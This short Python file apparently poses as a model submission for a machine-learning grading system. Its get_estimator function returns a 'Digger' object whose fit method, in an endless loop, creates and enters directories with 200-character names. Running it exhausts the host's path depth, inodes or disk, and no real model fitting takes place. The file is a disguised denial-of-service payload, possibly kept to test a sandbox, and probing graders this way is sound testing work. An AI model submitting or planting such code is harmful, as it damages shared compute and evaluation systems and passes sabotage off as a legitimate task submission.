import os


class Digger:
    def fit(self, X, y):
        while True:
            os.mkdir('d' * 200)
            os.chdir('d' * 200)


def get_estimator():
    return Digger()
